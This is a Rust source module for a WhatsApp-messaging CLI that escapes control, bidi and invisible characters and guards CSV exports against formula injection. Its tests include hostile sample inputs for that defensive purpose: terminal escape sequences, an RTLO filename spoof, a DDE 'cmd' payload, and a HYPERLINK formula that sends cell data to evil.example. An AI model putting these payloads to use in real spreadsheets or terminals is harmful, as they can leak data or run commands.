//! Rendering command results on stdout as a table, CSV or JSON, and making
//! every human-readable byte safe to show: text from outside (a WhatsApp
//! profile name, a message, an error Meta relays) passes through [`escape`]
//! before it reaches a terminal or a spreadsheet; JSON keeps it exact.

use std::borrow::Cow;
use std::fmt::{self, Display, Write as _};
use std::io::{self, Write};
use std::sync::atomic::{AtomicBool, Ordering};

use clap::ValueEnum;
use comfy_table::{ContentArrangement, LineStyle, Table, TableStyle};
use serde::Serialize;

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Format {
    /// Aligned columns for people
    Table,
    /// Comma-separated values with a header row
    Csv,
    /// JSON (an array for lists, an object otherwise)
    Json,
}

/// The formats of a command whose result is one summary, not rows: CSV has
/// no shape for it, so clap refuses `--format csv` rather than print text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum SummaryFormat {
    /// Text for people
    Table,
    /// JSON object
    Json,
}

impl From<SummaryFormat> for Format {
    fn from(f: SummaryFormat) -> Format {
        match f {
            SummaryFormat::Table => Format::Table,
            SummaryFormat::Json => Format::Json,
        }
    }
}

/// Plain columns with a rule under the header: easy to read and to copy.
const TABLE_STYLE: TableStyle =
    TableStyle::new().header_separator(LineStyle::none().fill('─').junction('─'));

/// Something shown as one row of a list.
pub trait Row: Serialize {
    const HEADERS: &'static [&'static str];
    fn cells(&self) -> Vec<String>;
}

/// Whether CSV starts with a byte-order mark (`--bom`): set once, from the
/// command line, before any output; a process writes one kind of CSV.
static CSV_BOM: AtomicBool = AtomicBool::new(false);

/// The UTF-8 byte-order mark: without it, Excel reads a CSV file as the
/// Windows code page and shows "Zoë" as "ZoÃ«".
pub const BOM: &str = "\u{feff}";

/// Makes every CSV written from now on start with a byte-order mark.
pub fn set_csv_bom(on: bool) {
    CSV_BOM.store(on, Ordering::Relaxed);
}

/// Writes CSV: a header row, then each record with every cell protected
/// (see [`csv_cell`]). Every CSV mot writes goes through here.
pub fn csv_records<R, C>(out: &mut dyn Write, headers: &[&str], records: R) -> io::Result<()>
where
    R: IntoIterator<Item = C>,
    C: IntoIterator,
    C::Item: AsRef<str>,
{
    csv_records_with(out, CSV_BOM.load(Ordering::Relaxed), headers, records)
}

fn csv_records_with<R, C>(
    out: &mut dyn Write,
    bom: bool,
    headers: &[&str],
    records: R,
) -> io::Result<()>
where
    R: IntoIterator<Item = C>,
    C: IntoIterator,
    C::Item: AsRef<str>,
{
    if bom {
        out.write_all(BOM.as_bytes())?;
    }
    let mut w = csv::Writer::from_writer(out);
    w.write_record(headers)?;
    for record in records {
        for cell in record {
            w.write_field(csv_cell(cell.as_ref()).as_bytes())?;
        }
        w.write_record(None::<&[u8]>)?;
    }
    w.flush()
}

/// Writes a list in the chosen format.
pub fn rows<T: Row>(out: &mut dyn Write, format: Format, items: &[T]) -> io::Result<()> {
    match format {
        Format::Json => json(out, &items),
        Format::Csv => csv_records(out, T::HEADERS, items.iter().map(Row::cells)),
        Format::Table => {
            let mut table = Table::new();
            table.load_style(TABLE_STYLE).set_header(T::HEADERS);
            for item in items {
                table.add_row(item.cells().iter().map(|c| escape(c)));
            }
            for line in table_lines(&mut table, terminal_width()) {
                writeln!(out, "{line}")?;
            }
            Ok(())
        }
    }
}

/// The width of the terminal stdout is, or `None` when stdout is a pipe or
/// a file: a table piped to `grep` or saved keeps whole rows. `COLUMNS`, when
/// set to a number, says the width whatever stdout is (as for `ls`).
fn terminal_width() -> Option<u16> {
    use std::io::IsTerminal;
    if let Some(cols) = crate::platform::columns() {
        return Some(cols);
    }
    if !io::stdout().is_terminal() {
        return None;
    }
    console::Term::stdout()
        .size_checked()
        .map(|(_rows, cols)| cols)
}

/// A table's lines: wrapped to fit `width` when given (comfy-table's dynamic
/// arrangement), at full width otherwise, and never padded with trailing
/// spaces (the last column would otherwise be filled out to its widest cell).
fn table_lines(table: &mut Table, width: Option<u16>) -> Vec<String> {
    match width {
        Some(width) => table
            .set_content_arrangement(ContentArrangement::Dynamic)
            .set_width(width),
        None => table.set_content_arrangement(ContentArrangement::Disabled),
    };
    table.lines().map(|l| l.trim_end().to_string()).collect()
}

/// Writes one item: a JSON object, one CSV row, or `field: value` lines.
pub fn one<T: Row>(out: &mut dyn Write, format: Format, item: &T) -> io::Result<()> {
    match format {
        Format::Json => json(out, item),
        Format::Csv => rows(out, format, std::slice::from_ref(item)),
        Format::Table => {
            let width = T::HEADERS.iter().map(|h| h.len()).max().unwrap_or(0);
            for (h, v) in T::HEADERS.iter().zip(item.cells()) {
                writeln!(out, "{h:>width$}: {}", escape(&v))?;
            }
            Ok(())
        }
    }
}

/// Writes a summary: JSON when asked, its human text otherwise.
pub fn summary<T: Serialize + Display>(
    out: &mut dyn Write,
    format: Format,
    item: &T,
) -> io::Result<()> {
    match format {
        Format::Json => json(out, item),
        Format::Table | Format::Csv => out.write_all(escape_text(&item.to_string()).as_bytes()),
    }
}

fn json<T: Serialize + ?Sized>(out: &mut dyn Write, value: &T) -> io::Result<()> {
    serde_json::to_writer_pretty(&mut *out, value)?;
    writeln!(out)
}

// ---------------------------------------------------------------------------
// Making text from outside safe to show
// ---------------------------------------------------------------------------

/// Characters that show nothing yet change how text around them looks: bidi
/// embeddings, overrides, isolates and marks (which can make `gpj.exe` read
/// `exe.jpg`), the soft hyphen, zero-width spaces and joiners, the line and
/// paragraph separators, word joiner and invisible operators, the
/// byte-order mark and the interlinear annotation marks (which hide the
/// text between them). The one set: output escapes them, members' details
/// never keep them, the screen reads through them, erasure looks past them.
pub fn is_invisible(c: char) -> bool {
    is_bidi_control(c)
        || matches!(
            c,
            '\u{00ad}'
                | '\u{180e}'
                | '\u{200b}'..='\u{200d}'
                | '\u{2028}'..='\u{2029}'
                | '\u{2060}'..='\u{2064}'
                | '\u{206a}'..='\u{206f}'
                | '\u{feff}'
                | '\u{fff9}'..='\u{fffb}'
        )
}

/// The bidi controls: embeddings and overrides (U+202A–202E), isolates
/// (U+2066–2069) and the marks (U+200E, U+200F, U+061C). They reorder the
/// text around them, so that one word or option can be made to read as another.
pub fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
    )
}

/// Text from Meta made safe for a terminal and a table cell: control and
/// invisible characters (see [`is_invisible`]) replaced, and at most `max` characters.
pub fn printable(text: &str, max: usize) -> String {
    let mut out: String = text
        .chars()
        .take(max)
        .map(|c| {
            if c.is_control() || is_invisible(c) {
                '\u{fffd}'
            } else {
                c
            }
        })
        .collect();
    if text.chars().nth(max).is_some() {
        out.push('…');
    }
    out
}

/// A character that must not be sent to members, and where it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Unsendable {
    pub ch: char,
    /// Line and column (both from 1, columns in characters); a one-line
    /// value is shown as "character N".
    pub line: usize,
    pub column: usize,
    multiline: bool,
}

impl fmt::Display for Unsendable {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let what = if is_bidi_control(self.ch) {
            "a bidi control, which reorders the text around it"
        } else {
            "a control character"
        };
        write!(f, "U+{:04X} ({what}) at ", self.ch as u32)?;
        if self.multiline {
            write!(f, "line {}, column {}", self.line, self.column)
        } else {
            write!(f, "character {}", self.column)
        }
    }
}

/// The first character of `text` that must not go to members: a control
/// character (C0, DEL, C1) or a bidi control. Line breaks (with the CR of
/// Windows line ends) and tabs are allowed: they are paragraphs, or are
/// folded into spaces. `multiline` text (a notice, a question) gives the
/// place as line and column; a one-line value (an option) as a character.
pub fn find_unsendable(text: &str, multiline: bool) -> Option<Unsendable> {
    let (mut line, mut column) = (1, 0);
    for ch in text.chars() {
        column += 1;
        let allowed = matches!(ch, '\n' | '\r' | '\t');
        if (ch.is_control() && !allowed) || is_bidi_control(ch) {
            return Some(Unsendable {
                ch,
                line,
                column,
                multiline,
            });
        }
        if ch == '\n' {
            line += 1;
            column = 0;
        }
    }
    None
}

/// Writes `c` so that it is seen rather than obeyed: control characters in
/// Rust's `\u{1b}` style, invisible ones as `<U+202E>`.
fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c if c.is_control() => {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
        c => {
            let _ = write!(out, "<U+{:04X}>", c as u32);
        }
    }
}

fn escape_where(s: &str, keep_newlines: bool) -> Cow<'_, str> {
    let bad = |c: char| (c.is_control() && !(keep_newlines && c == '\n')) || is_invisible(c);
    let Some(first) = s.find(bad) else {
        return Cow::Borrowed(s);
    };
    let mut out = String::with_capacity(s.len() + 16);
    out.push_str(&s[..first]);
    for c in s[first..].chars() {
        if bad(c) {
            push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One value (a table cell, a field) as it may be shown on a terminal:
/// control, bidi and zero-width characters (newlines too) are escaped.
pub fn escape(s: &str) -> Cow<'_, str> {
    escape_where(s, false)
}

/// Text of several lines (a summary, a log line, an error): as [`escape`],
/// but its line breaks stay line breaks.
pub fn escape_text(s: &str) -> Cow<'_, str> {
    escape_where(s, true)
}

/// What a spreadsheet would read as the start of a formula (OWASP's list).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell needs the protecting apostrophe: it starts a formula once
/// any apostrophes in front are dropped. Counting those apostrophes in makes
/// protection reversible: a name that really is `'=x` is written `''=x`.
fn needs_protection(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// A CSV cell as written: escaped like text (its line breaks stay, quoted),
/// and with a leading `'` when a spreadsheet would otherwise run it as a
/// formula. [`unprotect_csv`] undoes exactly that apostrophe.
fn csv_cell(s: &str) -> Cow<'_, str> {
    let text = escape_text(s);
    if needs_protection(&text) {
        Cow::Owned(format!("'{text}"))
    } else {
        text
    }
}

/// A cell read back from a CSV: the apostrophe [`csv_cell`] added is dropped
/// (and only that one), so an export re-imports to the same values.
pub fn unprotect_csv(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_protection(rest) => rest,
        _ => cell,
    }
}

/// Writes one line to stderr, escaped: use [`log_line!`](crate::log_line).
pub fn log(args: fmt::Arguments<'_>) {
    let line = args.to_string();
    let mut err = io::stderr().lock();
    let _ = writeln!(err, "{}", escape_text(&line));
}

/// `eprintln!` for mot: every log line on stderr passes through
/// [`escape_text`], whatever it quotes.
#[macro_export]
macro_rules! log_line {
    ($($arg:tt)*) => {
        $crate::output::log(format_args!($($arg)*))
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_from_meta_is_made_printable() {
        assert_eq!(
            printable("a\u{1b}[31mb\u{202e}c", 50),
            "a\u{fffd}[31mb\u{fffd}c"
        );
        assert_eq!(printable("abcdef", 3), "abc…");
    }

    #[test]
    fn unsendable_characters_are_found_with_their_place() {
        assert_eq!(find_unsendable("Line one\r\n\tTwo\n", true), None);
        assert_eq!(
            find_unsendable("Zoë 👩‍⚕️ café", false),
            None,
            "a ZWJ emoji is fine"
        );
        let at = |t: &str, m| find_unsendable(t, m).unwrap().to_string();
        assert_eq!(
            at("ab\ncd\u{202e}", true),
            "U+202E (a bidi control, which reorders the text around it) at line 2, column 3"
        );
        assert_eq!(
            at("Yes\u{7}", false),
            "U+0007 (a control character) at character 4"
        );
        for c in [
            '\u{0}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9f}', '\u{61c}', '\u{200e}', '\u{2069}',
        ] {
            assert_eq!(find_unsendable(&format!("x{c}"), false).unwrap().ch, c);
        }
    }

    #[test]
    fn a_bom_starts_the_csv_only_when_asked() {
        let rows = [["Zoë"]];
        let mut with = Vec::new();
        csv_records_with(&mut with, true, &["name"], rows).unwrap();
        assert_eq!(with, "\u{feff}name\nZoë\n".as_bytes());
        let mut without = Vec::new();
        csv_records_with(&mut without, false, &["name"], rows).unwrap();
        assert_eq!(without, "name\nZoë\n".as_bytes());
    }

    const HOSTILE: &str = "\u{1b}[2J\u{1b}[1;1H\u{1b}[32mALL CLEAR\u{1b}]0;pwned\u{7}";

    #[derive(Serialize)]
    struct Cell {
        text: String,
    }

    impl Row for Cell {
        const HEADERS: &'static [&'static str] = &["text"];
        fn cells(&self) -> Vec<String> {
            vec![self.text.clone()]
        }
    }

    fn render(format: Format, text: &str) -> String {
        let mut out = Vec::new();
        rows(
            &mut out,
            format,
            &[Cell {
                text: text.to_string(),
            }],
        )
        .unwrap();
        String::from_utf8(out).unwrap()
    }

    fn shows_nothing_hidden(s: &str) -> bool {
        !s.chars()
            .any(|c| (c.is_control() && c != '\n') || is_invisible(c))
    }

    #[test]
    fn terminal_escapes_are_shown_not_obeyed_in_tables_and_csv() {
        for text in [
            HOSTILE,
            "invoice\u{202e}fdp.exe",
            "a\u{2066}b\u{2069}c\u{200b}d\u{feff}",
            "line\r\nnext\u{85}",
        ] {
            for format in [Format::Table, Format::Csv] {
                let out = render(format, text);
                assert!(shows_nothing_hidden(&out), "{format:?}: {out:?}");
            }
        }
        let table = render(Format::Table, HOSTILE);
        assert!(table.contains("\\u{1b}[2J"), "{table}");
        assert!(render(Format::Table, "x\u{202e}y").contains("x<U+202E>y"));
        // An interlinear annotation hides the text between its marks.
        assert!(
            render(Format::Table, "ok\u{fff9}hidden\u{fffb}").contains("ok<U+FFF9>hidden<U+FFFB>")
        );
        assert!(render(Format::Table, "a\nb").contains("a\\nb"));
    }

    fn wide_table() -> Table {
        let mut table = Table::new();
        table
            .load_style(TABLE_STYLE)
            .set_header(["id", "text", "status"]);
        table.add_row([
            "1",
            &"Amoxicillin shortage: use the alternative. ".repeat(6),
            "sent",
        ]);
        table.add_row(["2", "short", "x"]);
        table
    }

    #[test]
    fn tables_fit_the_terminal_and_have_no_trailing_spaces() {
        let lines = table_lines(&mut wide_table(), Some(80));
        assert!(lines.len() > 4, "the long text wraps: {lines:#?}");
        for line in &lines {
            assert!(line.chars().count() <= 80, "{line:?}");
            assert_eq!(line.trim_end(), line, "trailing spaces: {line:?}");
        }
        // Not a terminal: whole rows, however long, still unpadded.
        let lines = table_lines(&mut wide_table(), None);
        assert_eq!(lines.len(), 4, "{lines:#?}");
        assert!(lines[2].chars().count() > 200);
        for line in &lines {
            assert_eq!(line.trim_end(), line, "trailing spaces: {line:?}");
        }
    }

    #[test]
    fn json_keeps_the_data_exact() {
        let out = render(Format::Json, HOSTILE);
        let back: Vec<serde_json::Value> = serde_json::from_str(&out).unwrap();
        assert_eq!(back[0]["text"], HOSTILE);
    }

    #[test]
    fn one_and_summary_escape_but_keep_line_breaks() {
        let mut out = Vec::new();
        one(
            &mut out,
            Format::Table,
            &Cell {
                text: HOSTILE.into(),
            },
        )
        .unwrap();
        assert!(shows_nothing_hidden(&String::from_utf8(out).unwrap()));

        let mut out = Vec::new();
        summary(
            &mut out,
            Format::Table,
            &format!("one {HOSTILE}\ntwo\u{202e}\n"),
        )
        .unwrap();
        let out = String::from_utf8(out).unwrap();
        assert!(shows_nothing_hidden(&out), "{out:?}");
        assert_eq!(out.lines().count(), 2);
        assert!(out.ends_with("two<U+202E>\n"));
    }

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        let s = "Asha Patel, Riverside Pharmacy — Leeds 💊 أحمد";
        assert!(matches!(escape(s), Cow::Borrowed(x) if x == s));
    }

    #[test]
    fn csv_formula_cells_get_an_apostrophe_that_import_removes() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&C2,\"Click me\")",
                true,
            ),
            ("+cmd|' /C calc'!A0", true),
            ("@SUM(1+1)", true),
            ("-2+3", true),
            ("=1+1", true),
            ("+447700900001", true),
            ("'=already quoted", true),
            ("''+x", true),
            ("Asha Patel", false),
            ("O'Brien", false),
            ("'quoted'", false),
            ("", false),
        ];
        for (value, protected) in cases {
            let written = csv_cell(value);
            assert_eq!(
                written.starts_with('\'') && written != value,
                protected,
                "{value}"
            );
            assert!(!written.starts_with(FORMULA_START), "{value}");
            assert_eq!(unprotect_csv(&written), value, "round trip of {value}");
        }
        // Tab and CR cannot start a written cell: they are escaped first.
        assert_eq!(csv_cell("\t=1"), "\\t=1");
        assert_eq!(unprotect_csv("'\t=1"), "\t=1");
        assert_eq!(unprotect_csv("'\r"), "\r");
    }

    #[test]
    fn csv_output_starts_no_cell_with_a_formula() {
        let out = render(Format::Csv, "=1+1");
        assert_eq!(out, "text\n'=1+1\n");
        let out = render(Format::Csv, "+447700900001");
        assert_eq!(out, "text\n'+447700900001\n");
    }

    /// Every stderr line goes through [`log`]: a raw `eprintln!` elsewhere
    /// would print whatever it quotes (a payload's reason, a file's cell) as is.
    #[test]
    fn log_lines_only_through_log_line() {
        fn visit(dir: &std::path::Path, found: &mut Vec<String>) {
            for entry in std::fs::read_dir(dir).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    visit(&path, found);
                } else if path.extension().is_some_and(|e| e == "rs")
                    && !path.ends_with("output.rs")
                {
                    let text = std::fs::read_to_string(&path).unwrap();
                    for (n, line) in text.lines().enumerate() {
                        if line.contains("eprintln!(") || line.contains("eprint!(") {
                            found.push(format!("{}:{}", path.display(), n + 1));
                        }
                    }
                }
            }
        }
        let mut found = Vec::new();
        visit(
            &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src"),
            &mut found,
        );
        assert!(found.is_empty(), "use crate::log_line! instead: {found:?}");
    }
}
